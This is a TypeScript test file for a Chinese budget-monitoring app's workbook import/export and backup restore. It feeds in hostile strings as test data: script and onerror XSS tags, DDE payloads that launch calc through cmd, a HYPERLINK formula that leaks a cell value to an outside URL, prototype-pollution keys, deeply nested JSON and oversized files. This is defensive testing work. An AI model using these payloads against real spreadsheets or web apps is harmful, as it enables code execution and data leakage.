/**
 * Untrusted input (docs/reliability.md §5): hostile input. A workbook whose text cells carry markup,
 * formula payloads, a leading tab and prototype-pollution keys is stored as plain strings, exports as
 * text cells (never formulas) and re-imports unchanged; `__proto__` / `constructor` / `prototype` as
 * sheet or header names are refused by name or ignored, and never reach `Object.prototype`. 100 MB files
 * (workbook and backup) and deeply nested backups are refused with a Chinese message and change nothing.
 */
import 'fake-indexeddb/auto'
import { afterEach, beforeAll, describe, expect, it } from 'vitest'
import ExcelJS from 'exceljs'
import JSZip from 'jszip'
import { createPinia, setActivePinia } from 'pinia'
import { DEMO_UNIT_ID, DEMO_YEAR, qiemo2021Dataset } from '@/domain/demo/qiemo2021'
import { saveUnitYear } from '@/db/datasets'
import { MAX_BACKUP_BYTES, checkBackupText, createBackup, restoreFromText } from '@/db/backup'
import { templateBytes } from '@/io/excel/importWorkbook'
import { readGrids } from '@/io/excel/workbook'
import { commitWorkbook, exportBytes, previewWorkbook, useDataTransferStore } from '@/stores/dataTransfer'
import type { MonitoringDb } from '@/db/schema'
import { expectOk, freshDb, snapshot } from '../db/helpers'

const SCRIPT = '<script>alert(1)</script>'
const IMG = '<img src=x onerror=alert(1)>'
const HYPERLINK = '=HYPERLINK("http://example.invalid/?d="&A1,"点我")'
const DDE = "+cmd|' /C calc'!A0"
const AT = '@SUM(1)'
const MINUS = "-2+3+cmd|' /C calc'!A0"
/** A leading tab is trimmed by the importer like any surrounding blank; what is left stays text. */
const TAB = '\t=1+1'
const POLLUTERS = ['__proto__', 'constructor', 'prototype'] as const
const XLSX = 100 * 1024 * 1024

const prototypeNames = Object.getOwnPropertyNames(Object.prototype).sort()
function expectPrototypeClean(): void {
  expect(Object.getOwnPropertyNames(Object.prototype).sort()).toEqual(prototypeNames)
  const probe: Record<string, unknown> = {}
  expect(probe.polluted).toBeUndefined()
  expect(probe.isAdmin).toBeUndefined()
  expect(Object.getPrototypeOf(probe)).toBe(Object.prototype)
}
afterEach(expectPrototypeClean)

let template: Buffer

beforeAll(async () => {
  template = Buffer.from(await templateBytes())
})

function sheetOf(wb: ExcelJS.Workbook, name: string): ExcelJS.Worksheet {
  const ws = wb.getWorksheet(name)
  if (!ws) throw new Error(`template has no ${name}`)
  return ws
}

/** spent/allocated for months 1..12, only June filled. */
const june = (spent: number, allocated: number) => [
  ...Array.from({ length: 12 }, (_, i) => (i === 5 ? spent : null)),
  ...Array.from({ length: 12 }, (_, i) => (i === 5 ? allocated : null)),
]

/** The app's template filled with hostile text in every kind of text column. */
async function hostileWorkbook(edit?: (wb: ExcelJS.Workbook) => void): Promise<Uint8Array> {
  const wb = new ExcelJS.Workbook()
  await wb.xlsx.load(template as unknown as ArrayBuffer)
  const info = sheetOf(wb, '单位信息')
  info.getCell('B2').value = `${SCRIPT}自然资源局`
  info.getCell('B3').value = 2024
  info.getCell('B4').value = IMG
  info.getCell('B5').value = `办公室、${DDE}`
  info.getCell('B6').value = '2024-06-30'
  const budget = sheetOf(wb, '预算执行')
  // 支出类别, 经费类型, 项目名称, 责任科室, 预算项目名称, 资金来源, 年初预算, 追加, 追减, 上年结转, 12 × 执行数, 12 × 到位资金
  const rows: [string | null, string][] = [
    [SCRIPT, IMG],
    [IMG, HYPERLINK],
    [HYPERLINK, DDE],
    [DDE, AT],
    [AT, MINUS],
    [MINUS, TAB],
    ['__proto__', '__proto__'],
    ['constructor', 'constructor'],
    ['prototype', 'prototype'],
  ]
  rows.forEach(([project, line], i) => {
    budget.getRow(i + 2).values = [
      '项目支出',
      null,
      project,
      IMG,
      line,
      '财政拨款',
      100,
      null,
      null,
      null,
      ...june(10, 20),
    ]
  })
  const indicators = sheetOf(wb, '绩效指标')
  indicators.getRow(2).values = ['整体', SCRIPT, IMG, HYPERLINK, '定性', DDE, null, 10, null, null, AT]
  indicators.getRow(3).values = [
    '整体',
    '产出指标',
    '数量指标',
    '__proto__',
    '≥',
    100,
    '宗',
    10,
    '累计型',
    null,
    'constructor',
  ]
  indicators.getRow(4).values = [
    '__proto__',
    'prototype',
    'constructor',
    '__proto__',
    '≥',
    5,
    '个',
    5,
    '累计型',
    null,
    null,
  ]
  const readings = sheetOf(wb, '指标填报')
  readings.getRow(2).values = [
    '2024-06-30',
    '整体',
    SCRIPT,
    IMG,
    HYPERLINK,
    null,
    IMG,
    '部分达成',
    50,
    SCRIPT,
    '有可能',
    null,
    HYPERLINK,
  ]
  readings.getRow(3).values = [
    '2024-06-30',
    '整体',
    '产出指标',
    '数量指标',
    '__proto__',
    40,
    '__proto__',
    null,
    null,
    'constructor',
    '有可能',
    null,
    TAB,
  ]
  // Template v2 sheets: 监控小组, 绩效目标 and 纠偏措施 carry free text too.
  sheetOf(wb, '监控小组').getRow(2).values = [SCRIPT, HYPERLINK, '组长']
  sheetOf(wb, '绩效目标').getRow(2).values = ['整体', `${IMG}${DDE}`]
  sheetOf(wb, '纠偏措施').getRow(2).values = ['2024-06-30', '下一步计划', AT, SCRIPT, '__proto__', null, null]
  edit?.(wb)
  return new Uint8Array((await wb.xlsx.writeBuffer()) as ArrayBuffer)
}

async function importInto(database: MonitoringDb, bytes: Uint8Array) {
  const preview = await previewWorkbook(bytes, { database })
  if (!preview.ok) expect.fail(preview.problems.map((p) => p.message).join('\n'))
  const committed = await commitWorkbook(preview.value.grids, { database })
  expect(committed).toMatchObject({ ok: true, value: { written: true } })
  return preview.value.plan
}

/** Every string anywhere in the stored rows. */
function storedStrings(tables: Record<string, unknown[]>): string[] {
  const out: string[] = []
  const walk = (v: unknown) => {
    if (typeof v === 'string') out.push(v)
    else if (Array.isArray(v)) v.forEach(walk)
    else if (v && typeof v === 'object') Object.values(v).forEach(walk)
  }
  for (const rows of Object.values(tables)) rows.forEach(walk)
  return out
}

describe('hostile text in an imported workbook', () => {
  it('is stored as the very strings typed, in plain rows with the ordinary prototype', async () => {
    const database = freshDb()
    await importInto(database, await hostileWorkbook())
    const [unit] = await database.units.toArray()
    expect(unit.name).toBe(`${SCRIPT}自然资源局`)
    expect(unit.financeOfficer).toBe(IMG)
    expect(unit.departments).toEqual(expect.arrayContaining(['办公室', DDE]))

    const projects = await database.projects.toArray()
    expect(projects.map((p) => p.name).sort()).toEqual([SCRIPT, IMG, HYPERLINK, DDE, AT, MINUS, ...POLLUTERS].sort())
    for (const p of projects) {
      expect(typeof p.name).toBe('string')
      expect(p.department).toBe(IMG)
      expect(Object.getPrototypeOf(p)).toBe(Object.prototype)
    }
    const lines = await database.budgetLines.toArray()
    expect(lines.map((l) => l.name).sort()).toEqual([IMG, HYPERLINK, DDE, AT, MINUS, '=1+1', ...POLLUTERS].sort())
    expect(lines.find((l) => l.name === '__proto__')?.initialBudget).toBe('100')

    const indicators = await database.indicators.toArray()
    const hostile = indicators.find((i) => i.name === HYPERLINK)
    expect(hostile).toMatchObject({ level1: SCRIPT, level2: IMG, operator: '定性', targetValue: DDE, targetLabel: AT })
    expect(indicators.filter((i) => i.name === '__proto__')).toHaveLength(2)
    const readings = await database.readings.toArray()
    expect(readings.find((r) => r.indicatorId === hostile?.id)).toMatchObject({
      actualLabel: IMG,
      yearEndForecast: SCRIPT,
      deviationText: HYPERLINK,
    })
    expect(readings.map((r) => r.deviationText)).toContain('=1+1')
    expect(unit.monitoringGroup).toEqual([expect.objectContaining({ name: SCRIPT, title: HYPERLINK })])
    expect((await database.targets.toArray()).find((t) => t.scope === 'unit')?.description).toBe(`${IMG}${DDE}`)
    expect(await database.measures.toArray()).toEqual([
      expect.objectContaining({ content: AT, effect: SCRIPT, department: '__proto__' }),
    ])

    // Nothing but strings, numbers, booleans, arrays and plain objects came out of the workbook.
    const all = await snapshot(database)
    const strings = storedStrings(all)
    for (const s of [SCRIPT, IMG, HYPERLINK, DDE, AT, MINUS, ...POLLUTERS]) expect(strings).toContain(s)
  })

  it('exports as text cells (type string, format @, no <f> formula anywhere) and re-imports with zero changes', async () => {
    const database = freshDb()
    await importInto(database, await hostileWorkbook())
    const [unit] = await database.units.toArray()
    const exported = await exportBytes(unit.id, 2024, { database })
    if (!exported) expect.fail('export returned nothing')

    const zip = await JSZip.loadAsync(exported)
    const sheets = Object.keys(zip.files).filter((n) => /^xl\/worksheets\/sheet\d+\.xml$/.test(n))
    expect(sheets.length).toBeGreaterThanOrEqual(5)
    for (const name of sheets) {
      const xml = (await zip.file(name)?.async('string')) ?? ''
      expect(xml).not.toMatch(/<f[\s>]/)
    }
    const shared = (await zip.file('xl/sharedStrings.xml')?.async('string')) ?? ''
    expect(shared).toContain('&lt;script&gt;alert(1)&lt;/script&gt;')
    expect(shared).not.toContain('<script>')

    const wb = new ExcelJS.Workbook()
    await wb.xlsx.load(exported)
    const cells: ExcelJS.Cell[] = []
    for (const ws of wb.worksheets)
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          const v = cell.value
          if (typeof v === 'string' && /^[=+\-@]|<|__proto__|constructor|prototype/.test(v)) cells.push(cell)
        }),
      )
    const values = cells.map((c) => c.value)
    for (const s of [SCRIPT, IMG, HYPERLINK, DDE, AT, MINUS, '=1+1', `${IMG}${DDE}`, ...POLLUTERS])
      expect(values).toContain(s)
    for (const cell of cells) {
      expect(cell.type, `${cell.worksheet.name}!${cell.address}`).toBe(ExcelJS.ValueType.String)
      expect(cell.formula).toBeUndefined()
      expect(cell.numFmt, `${cell.worksheet.name}!${cell.address}`).toBe('@')
    }

    const before = await snapshot(database)
    const again = await previewWorkbook(new Uint8Array(exported), { database })
    if (!again.ok) expect.fail(again.problems.map((p) => p.message).join('\n'))
    expect(again.value.plan.unchanged).toBe(true)
    expect(await commitWorkbook(again.value.grids, { database })).toMatchObject({ ok: true, value: { written: false } })
    expect(await snapshot(database)).toEqual(before)
  })

  it('takes a real formula cell as its cached result text, never as the formula', async () => {
    const database = freshDb()
    await importInto(
      database,
      await hostileWorkbook((wb) => {
        sheetOf(wb, '预算执行').getCell('E2').value = {
          formula: 'HYPERLINK("http://example.invalid","点我")',
          result: '点我',
        }
      }),
    )
    const names = (await database.budgetLines.toArray()).map((l) => l.name)
    expect(names).toContain('点我')
    expect(names.some((n) => n.includes('HYPERLINK("http://example.invalid","点我")'))).toBe(false)
  })

  it('round-trips through a backup file: restored rows equal the stored ones, hostile text included', async () => {
    const database = freshDb()
    await importInto(database, await hostileWorkbook())
    const { text } = await createBackup({ now: new Date('2024-07-01T00:00:00Z'), database })
    const other = freshDb()
    expect((await restoreFromText(text, { database: other })).ok).toBe(true)
    expect(await snapshot(other)).toEqual(await snapshot(database))
  })
})

describe('prototype-pollution keys as sheet and header names', () => {
  let database: MonitoringDb
  let before: Record<string, unknown[]>
  beforeAll(async () => {
    database = freshDb()
    expectOk(await saveUnitYear(qiemo2021Dataset(), { database }))
    before = await snapshot(database)
  })

  for (const key of POLLUTERS) {
    it(`a header “${key}” in place of 预算项目名称 is named in a Chinese message and writes nothing`, async () => {
      const bytes = await hostileWorkbook((wb) => {
        sheetOf(wb, '预算执行').getCell('E1').value = key
      })
      const preview = await previewWorkbook(bytes, { database })
      expect(preview.ok).toBe(false)
      if (preview.ok) return
      const text = preview.problems.map((p) => p.message).join('\n')
      expect(text).toMatch(/[\u4e00-\u9fa5]/)
      expect(text).toContain('预算项目名称')
      expect(await commitWorkbook(await readGrids(bytes), { database })).toMatchObject({ ok: false })
      expect(await snapshot(database)).toEqual(before)
    })

    it(`an extra sheet and an extra header column named “${key}” are ignored; the data imports as plain text`, async () => {
      const bytes = await hostileWorkbook((wb) => {
        const extra = wb.addWorksheet(key)
        extra.getRow(1).values = [key, 'polluted']
        extra.getRow(2).values = ['{"polluted":true}', true]
        sheetOf(wb, '预算执行').getCell('AJ1').value = key
        sheetOf(wb, '预算执行').getCell('AJ2').value = '{"isAdmin":true}'
      })
      const grids = await readGrids(bytes)
      expect(grids.map((g) => g.name)).toContain(key)
      const fresh = freshDb()
      await importInto(fresh, bytes)
      expect((await fresh.projects.toArray()).map((p) => p.name)).toContain(key)
      expect(storedStrings(await snapshot(fresh)).some((s) => s.includes('polluted') || s.includes('isAdmin'))).toBe(
        false,
      )
    })
  }
})

describe('hostile backup files', () => {
  let database: MonitoringDb
  let before: Record<string, unknown[]>
  let valid: string
  beforeAll(async () => {
    database = freshDb()
    expectOk(await saveUnitYear(qiemo2021Dataset(), { database }))
    valid = (await createBackup({ now: new Date('2021-07-01T00:00:00Z'), database })).text
    before = await snapshot(database)
  })

  async function expectRefused(text: string): Promise<string[]> {
    const result = await restoreFromText(text, { database })
    expect(result.ok).toBe(false)
    if (result.ok) return []
    expect(result.messages.length).toBeGreaterThan(0)
    for (const m of result.messages) expect(m).toMatch(/[\u4e00-\u9fa5]/)
    expect(await snapshot(database)).toEqual(before)
    return result.messages
  }

  for (const key of POLLUTERS) {
    it(`“${key}” inside a row or at the top is refused by name`, async () => {
      const inRow = valid.replace('"budgetLines":[{', `"budgetLines":[{"${key}":{"polluted":true},`)
      expect(inRow).not.toBe(valid)
      expect((await expectRefused(inRow)).join()).toContain(`“${key}”`)
      const top = valid.replace('{"format"', `{"${key}":{"isAdmin":true},"format"`)
      expect((await expectRefused(top)).join()).toContain(`“${key}”`)
    })
  }

  it('a backup nested 1,000,000 levels deep is refused (no stack overflow)', async () => {
    const deep = valid.replace('"tables":{', `"deep":${'['.repeat(1_000_000)}${']'.repeat(1_000_000)},"tables":{`)
    expect((await expectRefused(deep)).join()).toMatch(/嵌套层次过深|无法按 JSON 读取/)
  })

  it('a backup edited to slip a script tag into a name is refused by its checksum', async () => {
    const tampered = valid.replace(/"name":"[^"]*"/, `"name":${JSON.stringify(SCRIPT)}`)
    expect(tampered).not.toBe(valid)
    expect((await expectRefused(tampered)).join()).toContain('校验')
  })
})

describe('100 MB files', () => {
  let database: MonitoringDb
  let before: Record<string, unknown[]>
  beforeAll(async () => {
    database = freshDb()
    expectOk(await saveUnitYear(qiemo2021Dataset(), { database }))
    before = await snapshot(database)
  })

  it('a 100 MB workbook is refused before it is read, naming the 30 MB limit', async () => {
    // Junk after a real zip signature, so only the size can refuse it.
    const junk = new Uint8Array(XLSX).fill(0x41)
    junk.set([0x50, 0x4b, 0x03, 0x04])
    const started = performance.now()
    const preview = await previewWorkbook(junk, { database })
    expect(performance.now() - started).toBeLessThan(1000)
    expect(preview).toMatchObject({ ok: false, problems: [{ message: '文件过大（超过 30 MB），请拆分后分别导入' }] })
    expect(await snapshot(database)).toEqual(before)
    expect(await exportBytes(DEMO_UNIT_ID, DEMO_YEAR, { database })).not.toBeNull()
  })

  it('a 100 MB junk backup is refused with a Chinese message and restores nothing', async () => {
    const junk = new Uint8Array(100 * 1024 * 1024)
    for (let i = 0; i < junk.length; i += 4096) junk[i] = (i * 31) & 0xff
    const text = new TextDecoder().decode(junk)
    const result = await restoreFromText(text, { database })
    expect(result).toMatchObject({ ok: false })
    if (!result.ok) expect(result.messages.join()).toMatch(/备份文件/)
    expect(await snapshot(database)).toEqual(before)
  })

  it('a 100 MB backup that is well-formed JSON padding round our own header is refused too', async () => {
    const padded = `{"format":"jixiao-jiankong-backup","pad":"${'x'.repeat(100 * 1024 * 1024)}"}`
    const result = await checkBackupText(padded)
    expect(result).toMatchObject({ ok: false })
    if (!result.ok) expect(result.messages.join()).toMatch(/备份文件/)
    expect(await snapshot(database)).toEqual(before)
  })

  it('the 数据 page’s file check refuses a 100 MB junk backup with a message (File → store)', async () => {
    setActivePinia(createPinia())
    const store = useDataTransferStore()
    const file = new File([new Uint8Array(100 * 1024 * 1024)], '备份.json', { type: 'application/json' })
    await store.checkBackupFile(file)
    expect(store.errorMessage).toBe('')
    expect(store.restorePreview?.backup).toBeNull()
    expect(store.restorePreview?.messages.join()).toMatch(/备份文件/)
  })

  it('counts a backup’s size in UTF-8 bytes: 70 M Chinese characters (210 MB) exceed the 200 MB limit', async () => {
    expect(MAX_BACKUP_BYTES).toBe(200 * 1024 * 1024)
    const chinese = '数'.repeat(70 * 1024 * 1024)
    const result = await checkBackupText(chinese)
    expect(result).toEqual({ ok: false, messages: ['备份文件过大（超过 200 MB），不是本程序生成的备份'] })
  })
})
